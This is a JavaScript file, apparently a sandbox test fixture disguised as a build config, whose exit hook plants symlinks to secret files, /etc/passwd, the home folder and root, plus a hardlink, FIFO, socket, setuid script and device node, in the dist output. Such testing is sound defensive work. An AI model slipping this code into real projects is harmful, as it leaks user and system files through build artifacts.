// Puts links into its output that lead to files of the user and of the system, and what else is no plain file.
// outcome: passed
const { attempt, canary, command, say, fs } = require("./loot.js");

const act = (name, make) => {
  try {
    make();
  } catch (error) {
    say(`refused ${name}: ${error.code ?? error.message}`);
  }
};

process.on("exit", () => {
  canary.secretFiles.forEach((file, number) => act(file, () => fs.symlinkSync(file, `dist/secret${number}.txt`)));
  act("passwd", () => fs.symlinkSync("/etc/passwd", "dist/passwd.txt"));
  act("relative", () => fs.symlinkSync(`../../../../../../../../..${canary.secretFiles[0]}`, "dist/relative.txt"));
  act("folder", () => fs.symlinkSync(canary.home, "dist/home"));
  act("root", () => fs.symlinkSync("/", "dist/assets-of-all"));
  act("itself", () => fs.symlinkSync("itself", "dist/itself"));
  act("hard", () => fs.linkSync("node_modules/react/index.js", "dist/hard.js"));
  act("fifo", () => command("mkfifo", "dist/fifo"));
  act("socket", () => command("python3", "-c", "import socket; socket.socket(socket.AF_UNIX).bind('dist/socket')"));
  act("setuid", () => fs.writeFileSync("dist/setuid", "#!/bin/sh\n"));
  act("setuid mode", () => fs.chmodSync("dist/setuid", 0o6777));
  attempt("device", () => command("mknod", "dist/device", "b", "8", "0"));
});

module.exports = { content: ["./src/App.tsx"] };
